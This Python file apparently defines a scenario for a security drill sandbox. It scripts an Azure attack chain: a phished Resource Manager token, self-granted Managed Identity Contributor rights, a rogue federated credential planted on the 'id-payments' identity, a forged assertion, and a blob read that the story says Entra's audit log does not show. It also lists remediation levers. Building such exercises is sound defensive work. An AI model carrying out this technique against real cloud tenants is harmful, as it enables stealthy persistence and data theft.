"""Scenario: a managed identity trusts an issuer of the attacker's, planted by somebody who may grant roles."""

from drill.options import Json
from drill.scenarios.scenario import Scenario, Tell
from drill.scene import Victim
from sandbox.attacks import cashing_in, identity_fic_backdoor, role_assignment_backdoor
from sandbox.attacks.attacker import Attacker, TokenAnswer
from sandbox.attacks.compromise import ARM
from sandbox.attacks.held import Held


def _victim(described: Json) -> Victim:
    ids = described["seed"]["payments_identity"]
    return Victim(ids["app_id"], "", ids["object_id"], "dana", resource_id=ids["resource_id"])


async def _attack(attacker: Attacker, described: Json, tell: Tell) -> Held:
    held, victim = Held(), _victim(described)
    token = await attacker.phish(victim.phished, ARM)
    tell(f"{victim.phished} is phished", "a token for Resource Manager")
    held.secrets["phished ARM token"] = token
    # She may hand out roles on her team's group, so she may give herself what she lacks.
    herself = described["seed"]["users"][victim.phished]["object_id"]
    await role_assignment_backdoor.plant(
        attacker,
        token,
        victim.resource_id,
        herself,
        role=identity_fic_backdoor.MANAGED_IDENTITY_CONTRIBUTOR,
        principal_type="User",
    )
    tell("role taken", "Managed Identity Contributor at id-payments, for herself")
    trust = await identity_fic_backdoor.plant(attacker, token, victim.resource_id)
    tell("rogue federated credential planted on the identity", trust.issuer)

    async def forge() -> TokenAnswer:
        forged = await attacker.forge_assertion(trust.issuer, trust.subject)
        return await attacker.exchange_assertion(victim.app_id, forged)

    blob = described["seed"]["storage"]["blob_url"]
    await cashing_in.read_blob(attacker, held, "rogue trust", forge, blob)
    tell("data read by rogue trust", "HTTP 200")
    return held


SCENARIO = Scenario(
    name="rogue-fic-on-identity",
    story="id-payments trusts an issuer of the attacker's; Entra's audit log says nothing of it",
    victim=_victim,
    attack=_attack,
    levers=(
        "remove_identity_trusts",
        "remove_role_assignments",
        "remove_key_vault_policies",
        "revoke_tokens",
        "report_attachments",
    ),
)
